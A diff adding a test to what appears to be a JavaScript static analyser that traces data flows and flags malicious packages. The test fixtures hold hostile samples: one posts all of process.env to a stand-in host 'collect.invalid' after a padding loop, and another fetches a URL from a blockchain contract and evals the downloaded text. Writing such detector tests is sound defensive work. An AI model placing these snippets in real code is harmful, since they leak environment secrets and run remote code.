@@ -113,6 +113,18 @@ describe('what code does', () => {
     assert.deepEqual(flowsIn(analyseIndex(code)), ['downloaded>evaluated import']);
   });
 
+  it('is seen behind more work than is allowed, which is said where that runs by itself', () => {
+    const theft = `const table = []; for (let i = 0; i < 1e8; i++) table[i & 255] = i;
+      fetch('https://collect.invalid', { method: 'POST', body: JSON.stringify(process.env) });`;
+    const [unasked, called] = [theft, `exports.run = () => { ${theft} };`].map(analyseIndex);
+    assert.ok(unasked !== undefined && called !== undefined);
+    assert.deepEqual([unasked, called].flatMap(flowsIn), [...SENT, 'environment>network@collect.invalid call']);
+    assert.deepEqual(
+      [unasked, called].map(({ incomplete }) => incomplete.map(({ reason }) => reason)),
+      [['takes more work to follow than is allowed'], []],
+    );
+  });
+
   it('is told with the dead drop that an address comes from, and without one where a caller gives it', () => {
     const drop = `const { Contract } = require('some-chain'); (async () => { const url = await new Contract('0x1').read(); eval(await (await fetch(url)).text()); })();`;
     const loader = `exports.load = (url) => fetch(url).then((answer) => answer.text()).then((text) => eval(text));`;
